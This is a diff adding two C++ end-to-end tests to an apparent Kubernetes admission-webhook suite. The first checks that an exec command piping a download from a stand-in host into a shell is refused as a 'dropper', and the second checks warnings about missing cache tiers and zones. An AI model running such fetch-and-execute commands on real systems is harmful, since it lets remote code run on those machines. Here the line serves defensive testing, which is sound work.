@@ -253,6 +253,80 @@ TEST_F(WebhookE2E, CertificateRotationWithoutFailedAdmissions) {
   EXPECT_EQ(failures.load(), 0) << "of " << attempts.load();
 }
 
+// pods/exec CONNECT: the API server asks the webhook before it dials the kubelet,
+// so a miner command is refused with the rule; a benign one passes admission and
+// then fails only because no kubelet runs here.
+TEST_F(WebhookE2E, ExecOfAMinerCommandIsRefused) {
+  ASSERT_TRUE(apply(pod("exec-target", "nginx:1.27")).ok());
+  auto miner = cluster().kubectl({"-n", "shop", "exec", "exec-target", "--", "sh", "-c",
+                                  "curl -s http://dl.example/x.sh | sh"});
+  EXPECT_FALSE(miner.ok());
+  EXPECT_NE(miner.err.find("denied the request"), std::string::npos) << miner.err;
+  EXPECT_NE(miner.err.find("dropper"), std::string::npos) << miner.err;
+  auto benign = cluster().kubectl({"-n", "shop", "exec", "exec-target", "--", "ls", "/"});
+  EXPECT_EQ(benign.err.find("denied the request"), std::string::npos) << benign.err;
+}
+
+// Tier resources: what the schema cannot know (a missing CacheTier, a zone with
+// no Node) comes back as kubectl warnings, and the object is still created.
+TEST_F(WebhookE2E, TierResourcesGetCrossResourceWarnings) {
+  for (const char* crd : {"orderservices", "cachetiers", "shardsets"}) {
+    auto applied = cluster().kubectl(
+        {"apply", "-f", std::string(ORDERGUARD_SOURCE_DIR) + "/crds/" + crd + ".yaml"});
+    ASSERT_TRUE(applied.ok()) << applied.describe();
+  }
+  ASSERT_TRUE(
+      cluster()
+          .kubectl({"wait", "--for=condition=Established", "--timeout=60s",
+                    "crd/orderservices.tiers.orderguard.io", "crd/cachetiers.tiers.orderguard.io"})
+          .ok());
+  const json svc = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
+                    {"kind", "OrderService"},
+                    {"metadata", {{"name", "orders"}, {"namespace", "shop"}}},
+                    {"spec",
+                     {{"image", "shop/orders:1.0"},
+                      {"zones", {{{"name", "zone-x"}, {"weight", 100}}}},
+                      {"cacheRef", {{"name", "orders-cache"}}}}}};
+  // The webhook's tier caches sync once the CRDs exist: until then it stays silent.
+  e2e::CommandResult r;
+  ASSERT_TRUE(poll_until(
+      [&] {
+        r = apply(svc);
+        return r.ok() && r.err.find("does not exist") != std::string::npos;
+      },
+      90s))
+      << r.describe();
+  EXPECT_NE(r.err.find("Warning: spec.cacheRef.name: CacheTier shop/orders-cache does not exist"),
+            std::string::npos)
+      << r.err;
+  EXPECT_NE(r.err.find("Warning: spec.zones[0].name: no Node is in zone zone-x"), std::string::npos)
+      << r.err;
+  EXPECT_TRUE(client_
+                  ->get({"tiers.orderguard.io", "v1alpha1", "orderservices", true, "OrderService"},
+                        "shop", "orders")
+                  .ok());
+
+  // Once they exist, the warnings go away.
+  const json cache = {{"apiVersion", "tiers.orderguard.io/v1alpha1"},
+                      {"kind", "CacheTier"},
+                      {"metadata", {{"name", "orders-cache"}, {"namespace", "shop"}}},
+                      {"spec", {{"redis", {{"shards", 3}}}}}};
+  ASSERT_TRUE(apply(cache).ok()) << apply(cache).describe();
+  json node = {
+      {"apiVersion", "v1"},
+      {"kind", "Node"},
+      {"metadata",
+       {{"name", "tier-node-x"}, {"labels", {{"topology.kubernetes.io/zone", "zone-x"}}}}}};
+  ASSERT_TRUE(apply(node).ok());
+  ASSERT_TRUE(poll_until(
+      [&] {
+        r = apply(svc);
+        return r.ok() && r.err.find("Warning") == std::string::npos;
+      },
+      60s))
+      << r.describe();
+}
+
 // Last: takes the webhook away.
 TEST_F(WebhookE2E, WebhookDownFailClosedOrOpenByFailurePolicy) {
   // Point the configuration at a port nobody listens on.
